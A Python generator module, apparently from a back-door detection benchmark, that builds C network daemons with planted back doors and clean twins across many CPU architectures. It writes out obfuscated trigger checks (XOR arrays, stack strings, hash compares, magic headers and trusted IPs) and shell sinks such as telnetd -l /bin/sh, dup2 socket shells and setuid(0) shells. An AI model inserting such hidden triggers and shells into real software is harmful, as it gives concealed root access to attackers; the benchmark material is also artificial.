"""Family `binary`: small, realistic C daemons compiled for many architectures, each planted with a
back door and paired with a clean twin built from the very same source without -DPLANT.

Classes: bin-auth-bypass, bin-hidden-command, bin-master-password, bin-listener.

Program templates (binary_csrc.py): a telnet-style CLI login daemon, an HTTP admin server, a CGI
program, a UDP discovery/management daemon, a TCP binary-protocol service with a command-code switch
and a key=value configuration daemon. All of them carry honest look-alikes (strcmp on configuration
keys, salted SHA-256 password checks against the configuration, documented listeners, exec of ping or
reboot with fixed argv, an optional documented read-only status port).

Axes varied per variant: architecture (mipsel, mips, armel, armhf/Thumb-2, aarch64, x86-64, powerpc,
powerpc64le), optimisation (-O0/-O2/-Os), link (dynamic glibc, static glibc, static musl on x86-64),
trigger shape (library compares, inlined word compares, byte loops over plain or XOR-ed arrays, stack
strings, strings built at run time, table entries, integer magics, command-code switch cases,
md5/sha1/sha256/crc32/fnv hashes of the input, password of the day, challenge-response), input (socket
reads, stdin, CGI environment, HTTP headers, packet fields), sink (system, popen, execl, execve argv,
telnetd -l /bin/sh, dup2 + shell, setuid(0) shell, privilege flag, configuration dump/set) and
container (bare stripped ELF, or about one in four inside a small squashfs / tar.gz root filesystem).
"""
from __future__ import annotations

import hashlib
import random
import shutil
import string
import subprocess
import sys
import zlib
from pathlib import Path

from . import binary_csrc as C
from .common import Ctx, doc_ip, ident, make_squashfs, make_tar, port, product, secret, token_hex, word, write

FAMILY = "binary"

CLASSES = ["bin-auth-bypass", "bin-hidden-command", "bin-master-password", "bin-listener"]

# ----------------------------------------------------------------------------- toolchains

ARCHS: dict[str, dict] = {
    "mipsel": {"cc": "mipsel-linux-gnu-gcc", "flags": [], "endian": "little", "uimage": "mips"},
    "mips": {"cc": "mips-linux-gnu-gcc", "flags": [], "endian": "big", "uimage": "mips"},
    "armel": {"cc": "arm-linux-gnueabi-gcc", "flags": ["-marm"], "endian": "little", "uimage": "arm"},
    "armhf": {"cc": "arm-linux-gnueabihf-gcc", "flags": ["-mthumb"], "endian": "little", "uimage": "arm"},
    "aarch64": {"cc": "aarch64-linux-gnu-gcc", "flags": [], "endian": "little", "uimage": "arm64"},
    "x86-64": {"cc": "gcc", "flags": [], "endian": "little", "uimage": "x86_64"},
    "powerpc": {"cc": "powerpc-linux-gnu-gcc", "flags": [], "endian": "big", "uimage": "powerpc"},
    "ppc64le": {"cc": "powerpc64le-linux-gnu-gcc", "flags": [], "endian": "little", "uimage": "powerpc"},
}


def _have(cc: str) -> bool:
    return shutil.which(cc) is not None


def compile_c(src: str, out: Path, *, arch: str, opt: str, link: str, planted: bool, workdir: Path,
              name: str = "prog.c") -> Path:
    """Compile `src` deterministically in `workdir` (relative file name, no debug info, stripped)."""
    spec = ARCHS[arch]
    cc = "musl-gcc" if link == "static-musl" else spec["cc"]
    if not _have(cc):
        raise RuntimeError(f"binary: compiler {cc} is missing")
    (workdir / name).write_text(src)
    cmd = [cc, "-std=gnu99", "-w", opt, "-s", "-fno-ident", "-Wl,--build-id=none",
           f"-ffile-prefix-map={workdir}=.", "-fno-asynchronous-unwind-tables", *spec["flags"]]
    if link in ("static-glibc", "static-musl"):
        cmd.append("-static")
    if planted:
        cmd.append("-DPLANT")
    cmd += ["-o", str(out), name]
    res = subprocess.run(cmd, cwd=workdir, capture_output=True, text=True)
    if res.returncode != 0:
        raise RuntimeError(f"binary: {cc} failed for {out.name}:\n{res.stderr[-3000:]}")
    return out


# ----------------------------------------------------------------------------- C text helpers

def cstr(s: str) -> str:
    out = []
    for ch in s:
        if ch in '\\"':
            out.append("\\" + ch)
        elif ch == "?":
            out.append("\\?")
        elif 32 <= ord(ch) < 127:
            out.append(ch)
        else:
            out.append("\\%03o" % (ord(ch) & 0xff))
    return '"' + "".join(out) + '"'


def cchar(ch: str) -> str:
    if ch in "\\'":
        return "'\\" + ch + "'"
    if 32 <= ord(ch) < 127:
        return "'" + ch + "'"
    return "'\\%03o'" % ord(ch)


def cbytes(data: bytes, indent: str = "    ") -> str:
    parts = [f"0x{b:02x}" for b in data]
    lines = [indent + ", ".join(parts[i:i + 12]) + "," for i in range(0, len(parts), 12)]
    return "\n".join(lines)


def fill(tpl: str, repl: dict[str, str]) -> str:
    for k, v in repl.items():
        tpl = tpl.replace(f"@@{k}@@", v)
    if "@@" in tpl:
        i = tpl.index("@@")
        raise ValueError(f"binary: unfilled marker near {tpl[i:i + 40]!r}")
    return tpl


def fn_name(rng: random.Random, verbs: list[str] | None = None) -> str:
    verbs = verbs or ["check", "do", "handle", "run", "verify", "test", "probe", "match", "is", "get"]
    return f"{rng.choice(verbs)}_{ident(rng, 1)}"


# ----------------------------------------------------------------------------- secrets

ALNUM = string.ascii_letters + string.digits


def pw_secret(rng: random.Random, n: int | None = None) -> str:
    return secret(rng, n or rng.randint(9, 14))


def word_secret(rng: random.Random) -> str:
    """Something a vendor would type: word + digits + symbol mixes."""
    shape = rng.randrange(4)
    if shape == 0:
        return f"{word(rng).capitalize()}{rng.choice('@#!_')}{rng.randint(100, 9999)}"
    if shape == 1:
        return f"{word(rng)}{rng.randint(10, 99)}{word(rng, (1, 2))}"
    if shape == 2:
        return f"{word(rng, (1, 2))}_{token_hex(rng, 3)}"
    return secret(rng, rng.randint(10, 13), ALNUM + "!#%+-_.")


def fmt_secret(rng: random.Random) -> str:
    """A password that looks like a printf format string."""
    return (f"%{rng.choice(['', '0', '-'])}{rng.randint(2, 9)}{rng.choice('sdux')}"
            f"{word(rng, (1, 2))}%{rng.choice('sdc')}{rng.randint(10, 99)}")


def hidden_user(rng: random.Random) -> str:
    base = rng.choice(["support", "service", "factory", "debug", "maint", "tech", "super", "diag", "svc",
                       "field", "rma", "eng"])
    return base + rng.choice(["", str(rng.randint(1, 99)), word(rng, (1, 1)), "_" + word(rng, (1, 1))])


def token_str(rng: random.Random) -> str:
    shape = rng.randrange(5)
    if shape == 0:
        return token_hex(rng, rng.randint(6, 12))
    if shape == 1:
        return f"{word(rng)}_{word(rng)}{rng.randint(100, 99999)}"
    if shape == 2:
        return secret(rng, rng.randint(12, 20), ALNUM)
    if shape == 3:
        return f"{word(rng)}-{token_hex(rng, 4)}-{word(rng, (1, 2))}"
    return f"{word(rng).upper()}{rng.randint(1000, 9999)}{word(rng, (1, 2))}"


def ua_secret(rng: random.Random) -> str:
    shape = rng.randrange(3)
    if shape == 0:
        return f"{word(rng).capitalize()}Agent/{rng.randint(1, 9)}.{rng.randint(0, 9)} ({token_hex(rng, 4)})"
    if shape == 1:
        return f"{word(rng)}_{word(rng)}{rng.randint(1000, 99999)}{word(rng, (1, 2))}"
    return f"Mozilla/5.0 ({word(rng).capitalize()}; {token_hex(rng, 5)})"


# ----------------------------------------------------------------------------- string matchers

STRING_SHAPES = ["strcmp", "strncmp", "strcasecmp", "strstr", "memcmp-call", "builtin-memcmp", "u32-words",
                 "byte-array", "byte-xor", "stack-chars", "pieces", "table-entry", "crc32", "fnv1a",
                 "md5-hex", "sha1-hex", "sha1-raw", "sha256-hex", "sha256-raw"]

FIXED8 = {"builtin-memcmp", "u32-words"}


def secret_for(shape: str, rng: random.Random, kind: str = "pw") -> str:
    if shape in FIXED8:
        return secret(rng, 8, ALNUM + "!#%+-_.@")
    if shape == "table-entry":
        return fmt_secret(rng)
    if shape == "memcmp-call":
        s = word_secret(rng) if kind == "pw" else token_str(rng)
        while len(s) < 12:
            s += rng.choice(ALNUM)
        return s
    if kind == "ua":
        return ua_secret(rng)
    if kind == "token":
        return token_str(rng)
    return word_secret(rng) if rng.random() < 0.5 else pw_secret(rng)


class Match:
    def __init__(self, globals_: str, cond: str, needs: set[str], desc: str, opt: str | None = None):
        self.globals = globals_
        self.cond = cond
        self.needs = needs
        self.desc = desc
        self.opt = opt


def _hash_fn(algo: str, name: str, salt: str, out: str, rng: random.Random) -> tuple[str, str, set[str]]:
    """C function `static int name(const char *p)` hashing salt||p; returns (code, digest-compare, needs)."""
    if algo == "md5":
        ctx, init, upd, fin, dlen, needs = "md5_ctx", "md5_init", "md5_update", "md5_final", 16, {"md5"}
    elif algo == "sha1":
        ctx, init, upd, fin, dlen, needs = "sha1_ctx", "sha1_init", "sha1_update", "sha1_final", 20, {"sha1"}
    else:
        ctx, init, upd, fin, dlen, needs = "sha256_ctx", "sha256_init", "sha256_update", "sha256_final", 32, set()
    salt_line = f"    {upd}(&c, {cstr(salt)}, {len(salt)});\n" if salt else ""
    code = (f"    {ctx} c;\n    unsigned char d[{dlen}];\n    char hex[{2 * dlen + 1}];\n\n"
            f"    {init}(&c);\n{salt_line}    {upd}(&c, p, strlen(p));\n    {fin}(&c, d);\n")
    return code, out, needs


def str_matcher(shape: str, x: str, sec: str, rng: random.Random, arch: str) -> Match:
    """C condition that is true when the NUL-terminated string expression `x` matches `sec`."""
    S = cstr(sec)
    name = fn_name(rng)
    big = ARCHS[arch]["endian"] == "big"
    if shape == "strcmp":
        return Match("", f"strcmp({x}, {S}) == 0", set(), "strcmp() against a string literal")
    if shape == "strncmp":
        return Match("", f"strncmp({x}, {S}, {len(sec)}) == 0", set(), "strncmp() prefix compare against a literal")
    if shape == "strcasecmp":
        return Match("", f"strcasecmp({x}, {S}) == 0", set(), "strcasecmp() against a string literal")
    if shape == "strstr":
        return Match("", f"strstr({x}, {S}) != NULL", set(), "strstr() substring search for a literal")
    if shape == "memcmp-call":
        k = ident(rng, 2)
        g = f"static const char {k}[] = {S};\n"
        return Match(g, f"(strlen({x}) == sizeof {k} - 1 && memcmp({x}, {k}, strlen({x})) == 0)", set(),
                     "memcmp() call against a constant array")
    if shape == "builtin-memcmp":
        n = len(sec)
        return Match("", f"(__builtin_memcmp({x}, {S}, {n}) == 0 && ({x})[{n}] == '\\0')", set(),
                     f"{n}-byte constant memcmp inlined by -O2 into word compares", opt="-O2")
    if shape == "u32-words":
        raw = sec.encode()
        words = [int.from_bytes(raw[i:i + 4], "big" if big else "little") for i in range(0, 8, 4)]
        g = (f"static int {name}(const char *p)\n{{\n    uint32_t w[2];\n\n    if (strlen(p) != 8)\n        return 0;\n"
             f"    memcpy(w, p, 8);\n    return w[0] == 0x{words[0]:08x}u && w[1] == 0x{words[1]:08x}u;\n}}\n")
        return Match(g, f"{name}({x})", set(), "input loaded as two 32-bit words compared with integer constants")
    if shape == "byte-array":
        k = ident(rng, 2)
        g = (f"static const unsigned char {k}[] = {{\n{cbytes(sec.encode())}\n}};\n\n"
             f"static int {name}(const char *p)\n{{\n    size_t i;\n\n    if (strlen(p) != sizeof {k})\n        return 0;\n"
             f"    for (i = 0; i < sizeof {k}; i++)\n        if ((unsigned char)p[i] != {k}[i])\n            return 0;\n"
             f"    return 1;\n}}\n")
        return Match(g, f"{name}({x})", set(), "byte-by-byte loop over a constant byte array")
    if shape == "byte-xor":
        k = ident(rng, 2)
        key, step = rng.randrange(1, 256), rng.choice([0, 1, 3, 7, 13])
        enc = bytes((b ^ ((key + i * step) & 0xff)) for i, b in enumerate(sec.encode()))
        g = (f"static const unsigned char {k}[] = {{\n{cbytes(enc)}\n}};\n\n"
             f"static int {name}(const char *p)\n{{\n    size_t i;\n\n    if (strlen(p) != sizeof {k})\n        return 0;\n"
             f"    for (i = 0; i < sizeof {k}; i++)\n"
             f"        if (((unsigned char)p[i] ^ (unsigned char)(0x{key:02x} + i * {step})) != {k}[i])\n"
             f"            return 0;\n    return 1;\n}}\n")
        return Match(g, f"{name}({x})", set(), f"byte loop against an XOR-encoded array (key 0x{key:02x}, step {step})")
    if shape == "stack-chars":
        n = len(sec)
        assigns = "\n".join(f"    k[{i}] = {cchar(ch)};" for i, ch in enumerate(sec))
        g = (f"static int {name}(const char *p)\n{{\n    char k[{n + 1}];\n\n{assigns}\n    k[{n}] = '\\0';\n"
             f"    return strcmp(p, k) == 0;\n}}\n")
        return Match(g, f"{name}({x})", set(), "secret built character by character on the stack, then strcmp()")
    if shape == "pieces":
        i = rng.randint(2, max(2, len(sec) // 2))
        j = rng.randint(i + 1, len(sec) - 1)
        a, b, c = sec[:i], sec[i:j], sec[j:]
        if rng.random() < 0.5:
            body = f"    snprintf(k, sizeof k, \"%s%s%s\", {cstr(a)}, {cstr(b)}, {cstr(c)});\n"
            how = "snprintf() of three pieces"
        else:
            body = f"    strcpy(k, {cstr(a)});\n    strcat(k, {cstr(b)});\n    strcat(k, {cstr(c)});\n"
            how = "strcpy()/strcat() of three pieces"
        g = f"static int {name}(const char *p)\n{{\n    char k[64];\n\n{body}    return strcmp(p, k) == 0;\n}}\n"
        return Match(g, f"{name}({x})", set(), f"secret assembled at run time ({how}), then strcmp()")
    if shape == "table-entry":
        tbl = ident(rng, 2)
        fmts = ["%s: %s\\r\\n", "%-12s %8lu %8lu\\r\\n", "%02x:%02x:%02x:%02x:%02x:%02x", "%s/%s (%s)",
                "%lu days, %02lu:%02lu", "%s=%s\\n", "[%s] %s", "%d.%d.%d.%d"]
        rng.shuffle(fmts)
        idx = rng.randint(1, 5)
        entries = [f'"{f}"' for f in fmts[:6]]
        entries.insert(idx, S)
        g = f"static const char *const {tbl}[] = {{\n    " + ",\n    ".join(entries) + "\n};\n"
        return Match(g, f"strcmp({x}, {tbl}[{idx}]) == 0", set(),
                     f"literal disguised as entry {idx} of a table of printf format strings")
    if shape in ("crc32", "fnv1a"):
        if shape == "crc32":
            v = zlib.crc32(sec.encode()) & 0xffffffff
            return Match("", f"crc32_calc({x}, strlen({x})) == 0x{v:08x}u", {"crc32"},
                         f"CRC-32 of the input compared with 0x{v:08x}")
        h = 0x811c9dc5
        for b in sec.encode():
            h = ((h ^ b) * 0x01000193) & 0xffffffff
        return Match("", f"fnv1a32({x}) == 0x{h:08x}u", {"fnv"}, f"FNV-1a hash of the input compared with 0x{h:08x}")
    if shape in ("md5-hex", "sha1-hex", "sha1-raw", "sha256-hex", "sha256-raw"):
        algo, form = shape.split("-")
        salt = word(rng, (1, 2)) + str(rng.randint(0, 99)) if rng.random() < 0.5 else ""
        digest = hashlib.new(algo, (salt + sec).encode()).digest()
        code, _, needs = _hash_fn(algo, name, salt, "", rng)
        if form == "hex":
            tail = f"    hex_encode(d, sizeof d, hex);\n    return strcmp(hex, {cstr(digest.hex())}) == 0;\n"
        else:
            k = ident(rng, 2)
            code = code.replace("    char hex[", "    /* raw digest */\n    char unused_hex[")
            tail = f"    (void)unused_hex;\n    return memcmp(d, {k}, sizeof d) == 0;\n"
        g = ""
        if form == "raw":
            g += f"static const unsigned char {k}[{len(digest)}] = {{\n{cbytes(digest)}\n}};\n\n"
        g += f"static int {name}(const char *p)\n{{\n{code}{tail}}}\n"
        salt_desc = f" salted with {salt!r}" if salt else ""
        return Match(g, f"{name}({x})", needs,
                     f"{algo.upper()} of the input{salt_desc} compared with a constant {form} digest {digest.hex()}")
    raise ValueError(shape)


def int_matcher(shape: str, expr: str, value: int, rng: random.Random) -> tuple[str, str]:
    """(condition, description) on a 32-bit host-order integer expression."""
    if shape == "u32-eq":
        return f"{expr} == 0x{value:08x}u", f"equals the magic 0x{value:08x}"
    if shape == "u32-xor":
        k = rng.getrandbits(32) | 1
        return (f"(({expr}) ^ 0x{k:08x}u) == 0x{value ^ k:08x}u",
                f"XOR 0x{k:08x} equals 0x{value ^ k:08x} (i.e. the field is the magic 0x{value:08x})")
    if shape == "u32-add":
        k = rng.getrandbits(32)
        return (f"(uint32_t)(({expr}) + 0x{k:08x}u) == 0x{(value + k) & 0xffffffff:08x}u",
                f"plus 0x{k:08x} equals 0x{(value + k) & 0xffffffff:08x} (i.e. the field is the magic 0x{value:08x})")
    raise ValueError(shape)


# ----------------------------------------------------------------------------- sinks

SINK_DESC = {
    "system": "system()",
    "popen": "popen() with the output sent back to the client",
    "execl-sh": "fork + execl(\"/bin/sh\", \"sh\", \"-c\", cmd)",
    "execve-argv": "fork + execve() of an argv array {\"/bin/sh\", \"-c\", cmd}",
    "telnetd": "spawns telnetd -l /bin/sh (unauthenticated root shell on a port)",
    "dup2-shell": "dup2() of the client socket onto 0/1/2 then an interactive /bin/sh",
    "setuid-shell": "setgid(0)/setuid(0) then an interactive /bin/sh on the connection",
}
SHELL_SINKS = {"telnetd", "dup2-shell", "setuid-shell"}


def sink_fn(kind: str, name: str, rng: random.Random) -> tuple[str, str]:
    """C function `static void name(const char *cmd, int fd)`; returns (code, description)."""
    if kind == "system":
        if rng.random() < 0.5:
            body = "    (void)fd;\n    if (cmd && *cmd)\n        system(cmd);\n"
        else:
            body = ("    char line[600];\n\n    (void)fd;\n    snprintf(line, sizeof line, \"%s >/dev/null 2>&1\", cmd);\n"
                    "    system(line);\n")
        return f"static void {name}(const char *cmd, int fd)\n{{\n{body}}}\n", SINK_DESC[kind]
    if kind == "popen":
        body = ("    char buf[512];\n    size_t n;\n    FILE *p = popen(cmd, \"r\");\n\n    if (!p)\n        return;\n"
                "    while ((n = fread(buf, 1, sizeof buf, p)) > 0)\n        if (fd >= 0)\n            write_all(fd, buf, n);\n"
                "    pclose(p);\n")
        return f"static void {name}(const char *cmd, int fd)\n{{\n{body}}}\n", SINK_DESC[kind]
    if kind == "execl-sh":
        body = ("    pid_t pid = fork();\n\n    if (pid == 0) {\n        if (fd >= 0) {\n            dup2(fd, 1);\n"
                "            dup2(fd, 2);\n        }\n        execl(\"/bin/sh\", \"sh\", \"-c\", cmd, (char *)NULL);\n"
                "        _exit(127);\n    }\n    if (pid > 0)\n        waitpid(pid, NULL, 0);\n")
        return f"static void {name}(const char *cmd, int fd)\n{{\n{body}}}\n", SINK_DESC[kind]
    if kind == "execve-argv":
        if rng.random() < 0.5:
            shdecl = "    char *argv[4];\n"
            shset = "    argv[0] = \"/bin/sh\";\n"
            how = ""
        else:
            shdecl = ("    char sh[8];\n    char *argv[4];\n\n    sh[0] = '/'; sh[1] = 'b'; sh[2] = 'i'; sh[3] = 'n';\n"
                      "    sh[4] = '/'; sh[5] = 's'; sh[6] = 'h'; sh[7] = '\\0';\n")
            shset = "    argv[0] = sh;\n"
            how = " (the shell path built on the stack)"
        body = (f"{shdecl}    char *envp[] = {{\"PATH=/bin:/sbin:/usr/bin:/usr/sbin\", NULL}};\n    pid_t pid;\n\n"
                f"{shset}    argv[1] = \"-c\";\n    argv[2] = (char *)cmd;\n    argv[3] = NULL;\n    pid = fork();\n"
                "    if (pid == 0) {\n        if (fd >= 0) {\n            dup2(fd, 1);\n            dup2(fd, 2);\n        }\n"
                "        execve(argv[0], argv, envp);\n        _exit(127);\n    }\n    if (pid > 0)\n"
                "        waitpid(pid, NULL, 0);\n")
        return f"static void {name}(const char *cmd, int fd)\n{{\n{body}}}\n", SINK_DESC[kind] + how
    if kind == "telnetd":
        tp = port(rng)
        style = rng.randrange(4)
        if style == 0:
            ex = f"execl(\"/usr/sbin/telnetd\", \"telnetd\", \"-l\", \"/bin/sh\", \"-p\", \"{tp}\", (char *)NULL);"
            desc = f"fork + execl /usr/sbin/telnetd -l /bin/sh -p {tp}"
        elif style == 1:
            ex = f"execl(\"/bin/busybox\", \"telnetd\", \"-l\", \"/bin/sh\", \"-p\", \"{tp}\", \"-F\", (char *)NULL);"
            desc = f"fork + execl busybox telnetd -l /bin/sh -p {tp}"
        elif style == 2:
            ex = f"system(\"/usr/sbin/utelnetd -l /bin/sh -p {tp} -d\");\n        _exit(0);"
            desc = f"system(\"/usr/sbin/utelnetd -l /bin/sh -p {tp} -d\")"
        else:
            ex = (f"char *argv[] = {{\"telnetd\", \"-p\", \"{tp}\", \"-l\", \"/bin/sh\", NULL}};\n"
                  "        execvp(argv[0], argv);")
            desc = f"fork + execvp telnetd -p {tp} -l /bin/sh"
        body = ("    pid_t pid;\n\n    (void)cmd;\n    (void)fd;\n    pid = fork();\n    if (pid == 0) {\n        setsid();\n"
                f"        {ex}\n        _exit(1);\n    }}\n")
        return (f"static void {name}(const char *cmd, int fd)\n{{\n{body}}}\n",
                f"{desc} (unauthenticated root shell on TCP port {tp})")
    if kind in ("dup2-shell", "setuid-shell"):
        priv = "        setgid(0);\n        setuid(0);\n" if kind == "setuid-shell" else ""
        shell = rng.choice(["execl(\"/bin/sh\", \"sh\", \"-i\", (char *)NULL);",
                            "execl(\"/bin/sh\", \"-sh\", (char *)NULL);",
                            "execl(\"/bin/busybox\", \"sh\", (char *)NULL);"])
        body = ("    pid_t pid;\n\n    (void)cmd;\n    pid = fork();\n    if (pid == 0) {\n" + priv +
                "        dup2(fd, 0);\n        dup2(fd, 1);\n        dup2(fd, 2);\n"
                f"        {shell}\n        _exit(1);\n    }}\n    if (pid > 0)\n        waitpid(pid, NULL, 0);\n")
        return f"static void {name}(const char *cmd, int fd)\n{{\n{body}}}\n", SINK_DESC[kind]
    raise ValueError(kind)


# ----------------------------------------------------------------------------- template parameters

PROGS = {
    "cli": ["clid", "termsrvd", "mgmt_cli", "consoled", "loginsrv", "cliserver", "vtyd", "admcli"],
    "httpd": ["httpd", "webs", "webmgrd", "admind", "websrv", "lhttpd", "httpsrv", "webcfgd"],
    "cgi": ["setup.cgi", "apply.cgi", "admin.cgi", "mgmt.cgi", "system.cgi", "webproc.cgi", "main.cgi"],
    "udpd": ["discoverd", "devfindd", "bcastd", "netfinder", "ndiscd", "probed", "locatord"],
    "binproto": ["mgmtd", "ctrld", "rpcd", "devmgrd", "tmsd", "ipcd", "nmsd", "agentd"],
    "cfgd": ["cfgd", "confd", "cfgmgr", "sysconfd", "settingsd", "nvcfgd"],
}
DESCS = {
    "cli": "command line login service",
    "httpd": "web administration server",
    "cgi": "web administration CGI",
    "udpd": "device discovery and management daemon",
    "binproto": "device management protocol service",
    "cfgd": "configuration daemon",
}


def make_params(tpl: str, rng: random.Random, prod: str, with_status: bool) -> dict:
    prodname = prod.capitalize()
    prog = rng.choice(PROGS[tpl])
    ver = f"{rng.randint(1, 4)}.{rng.randint(0, 12)}.{rng.randint(0, 40)}"
    if rng.random() < 0.5:
        ver += f"-b{rng.randint(100, 9999)}"
    model = f"{prod[:2].upper()}{rng.choice(['-', ''])}{rng.randint(100, 9999)}{rng.choice(['', 'N', 'AX', 'G', 'P', 'v2'])}"
    base = prog.split(".")[0]
    confdir = rng.choice([f"/etc/{prod}", "/etc/config", f"/etc/{base}"])
    if tpl == "cli":
        dport = rng.choice([23, 2323, 2222 + rng.randint(0, 7)])
    elif tpl == "httpd":
        dport = rng.choice([80, 8080, 8000, 8081])
    else:
        dport = port(rng)
    sport = port(rng)
    while sport == dport:
        sport = port(rng)
    p = {
        "PRODNAME": prodname, "PROG": prog, "VER": ver, "DESC": DESCS[tpl], "MODEL": model,
        "CONF": f"{confdir}/{base}.conf", "USERS": f"{confdir}/users", "PORT": str(dport),
        "STATUS_PORT": str(sport if with_status else 0),
        "DEFHOST": f"{prod}-{token_hex(rng, 2)}", "LANIP": doc_ip(rng),
        "SESSION_TIMEOUT": str(rng.choice([300, 600, 900, 1800])),
        "BANNER": f"{prodname} {model} - authorised access only",
        "INETD": "0", "WWWROOT": rng.choice(["/www", "/usr/www", "/var/www"]),
        "SIDNAME": rng.choice(["sid", "SESSIONID", "session", "uid", "auth_token", f"{prod[:3]}_sess"]),
        "SESSPATH": f"/tmp/{base}.sessions", "ACTION": rng.choice(["action", "todo", "op", "cmd_type"]),
        "IFACE": rng.choice(["eth0", "br0", "br-lan", "eth1"]),
        "SECRETPATH": f"{confdir}/{base}.secret",
        "PMAGIC": f"{rng.getrandbits(32):08x}",
    }
    ops = rng.sample(range(1, 0x7f), 5)
    for i, op in enumerate(sorted(ops)):
        p[f"OPBASE{i}"] = f"{op:02x}"
    base_cmd = rng.choice([0x0100, 0x1000, 0x0010, 0x2000, 0x0001])
    step = rng.choice([1, 0x10, 0x100]) if base_cmd != 0x0001 else 1
    cmds = [base_cmd + i * step for i in range(7)]
    for i, c in enumerate(cmds):
        p[f"CMD{i}"] = f"{c:04x}"
    p["_cmds"] = cmds
    p["_ops"] = sorted(ops)
    p["_dport"] = dport
    p["_sport"] = sport if with_status else 0
    p["_with_status"] = with_status
    p["_tpl"] = tpl
    p["_prod"] = prod
    p["_confdir"] = confdir
    return p


def build_source(tpl: str, params: dict, slots: dict[str, str], needs: set[str]) -> str:
    """Assemble prelude + helpers + template; plant slots are wrapped in #ifdef PLANT."""
    status = params["_with_status"]
    glob = ""
    for h in ("md5", "sha1", "crc32", "fnv"):
        if h in needs:
            glob += C.HASH_CODE[h]
    glob += slots.get("GLOBALS", "")
    text = C.PRELUDE + (C.WEB_HELPERS if tpl in C.NEEDS_WEB else "") + C.TEMPLATES[tpl]
    repl = {k: v for k, v in params.items() if not k.startswith("_")}
    repl["SHA256_K"] = C._words(C.SHA256_K)
    repl["STATUS_CODE"] = C.STATUS_CODE if status and tpl != "cgi" else ""
    repl["STATUS_START"] = "    status_listener(cfg.status_port);" if status and tpl != "cgi" else ""
    repl["STATUS_OPT"] = " [-s port]" if status else ""
    repl["STATUS_DOC"] = C.STATUS_DOC if status else ""
    repl["STATUS_ARG"] = ", DEFAULT_STATUS_PORT" if status else ""

    def wrap(code: str) -> str:
        code = code.rstrip("\n")
        return f"#ifdef PLANT\n{code}\n#endif" if code.strip() else ""

    # template parameters first (checked for leftovers), plant text last: secrets may contain '@@'
    slot_names = ("GLOBALS", "AUTH_PRE", "AUTH_POST", "AUTH_INTERACTIVE", "BYPASS", "HIDDEN", "HIDDEN_CASE", "STARTUP")
    text = fill(text, {**repl, **{k: f"\x00{k}\x00" for k in slot_names}})
    for slot in slot_names:
        text = text.replace(f"\x00{slot}\x00", wrap(glob if slot == "GLOBALS" else slots.get(slot, "")))
    return text


# ----------------------------------------------------------------------------- plants: auth bypass

# trigger shape -> [(template, input)]
BYPASS_SHAPES: dict[str, list[tuple[str, str]]] = {
    "strcmp": [("httpd", "ua"), ("cgi", "ua"), ("httpd", "referer")],
    "strstr": [("httpd", "cookie-raw"), ("cgi", "cookie-raw"), ("httpd", "ua")],
    "strcasecmp": [("httpd", "header"), ("cgi", "header")],
    "strncmp": [("httpd", "path"), ("cgi", "path-info")],
    "u32-eq": [("binproto", "session"), ("udpd", "seq")],
    "u32-xor": [("binproto", "flags-session"), ("udpd", "seq")],
    "mac-magic": [("udpd", "mac")],
    "byte-xor": [("httpd", "query"), ("cgi", "query"), ("httpd", "cookie"), ("cgi", "cookie")],
    "crc32": [("httpd", "ua"), ("cgi", "ua"), ("httpd", "header"), ("cli", "term")],
    "fnv1a": [("httpd", "header"), ("cgi", "header"), ("binproto", "hello")],
    "builtin-memcmp": [("httpd", "query"), ("cgi", "cookie"), ("binproto", "hello"), ("cli", "term")],
    "trusted-ip": [("cgi", "remote"), ("cli", "peer"), ("httpd", "peer")],
    "stack-chars": [("httpd", "ua"), ("cgi", "header"), ("binproto", "hello"), ("cli", "term")],
    "sha256-hex": [("httpd", "cookie"), ("cgi", "cookie")],
    "memcmp-call": [("binproto", "hello"), ("httpd", "header")],
}

HDR_NAMES = ["X-Forwarded-Auth", "X-Debug", "X-Requested-By", "X-Api-Key", "X-Service", "X-Client-Token",
             "X-Mgmt", "X-Auth-Token", "X-Device-Id"]


def plant_bypass(shape: str, tpl: str, inp: str, params: dict, rng: random.Random, arch: str) -> dict:
    grant = {
        "httpd": "        r->level = LEVEL_ADMIN;\n        snprintf(r->user, sizeof r->user, \"%s\", cfg.admin_user);\n",
        "cgi": "        level = LEVEL_ADMIN;\n        snprintf(user, sizeof user, \"%s\", cfg.admin_user);\n",
        "binproto": ("        c->level = level = LEVEL_ADMIN;\n        c->session = ntohl(h.session);\n"
                     "        snprintf(c->user, sizeof c->user, \"%s\", cfg.admin_user);\n"),
        "udpd": "        level = LEVEL_ADMIN;\n",
        "cli": "        level = LEVEL_ADMIN;\n        snprintf(user, sizeof user, \"%s\", cfg.admin_user);\n        goto authed;\n",
    }[tpl]
    setup, guard, x, where = "", "", "", ""
    glob = ""
    needs: set[str] = set()
    opt = None
    cats = ["auth-bypass", "hidden-command", "hardcoded-secret"]
    sec_kind = "token"
    value_desc = ""
    # ---- inputs that are strings
    if inp in ("ua", "referer", "header", "cookie", "query", "cookie-raw", "hello", "term", "path", "path-info",
               "remote", "peer"):
        if inp == "ua":
            sec_kind = "ua"
        if shape == "trusted-ip":
            sec = doc_ip(rng)
            m = Match("", "", set(), "strcmp() of the client address against a hard-coded IP")
        elif shape in ("strncmp",):
            sec = "/" + word(rng) + "_" + token_hex(rng, 3) + "/"
            m = None
        else:
            sec = secret_for(shape if shape != "strstr" else "strcmp", rng, sec_kind)
            m = None
        if tpl == "httpd":
            if inp == "ua":
                x, where = "r->ua", "User-Agent request header"
            elif inp == "referer":
                x, where = "r->referer", "Referer request header"
            elif inp == "cookie-raw":
                cname = rng.choice(["lang", "theme", "uid", "prefs", "tz"])
                sec = f"{cname}={sec}"
                x, where = "r->cookie", f"Cookie header containing '{sec}'"
            elif inp == "header":
                hn = rng.choice(HDR_NAMES)
                setup = f"        const char *xv = req_header(r, {cstr(hn)});\n"
                guard, x, where = "xv != NULL && ", "xv", f"request header {hn}"
            elif inp == "cookie":
                cn = rng.choice(["uid", "lang", "auth", "dbg", "pref", "token"])
                setup = f"        char cv[160];\n"
                guard = f"cookie_get(r->cookie, {cstr(cn)}, cv, sizeof cv) && "
                x, where = "cv", f"cookie {cn}"
            elif inp == "query":
                qn = rng.choice(["debug", "key", "auth", "tk", "mode", "lang", "s"])
                setup = "        char qv[160];\n"
                guard = f"form_get(r->query, {cstr(qn)}, qv, sizeof qv) && "
                x, where = "qv", f"query parameter {qn}"
            elif inp == "peer":
                x, where = "r->peer", "client IP address"
            elif inp == "path":
                where = f"URL path prefix {sec}"
        elif tpl == "cgi":
            envmap = {"ua": "HTTP_USER_AGENT", "cookie-raw": "HTTP_COOKIE", "remote": "REMOTE_ADDR",
                      "path-info": "PATH_INFO"}
            if inp == "header":
                hn = rng.choice(HDR_NAMES)
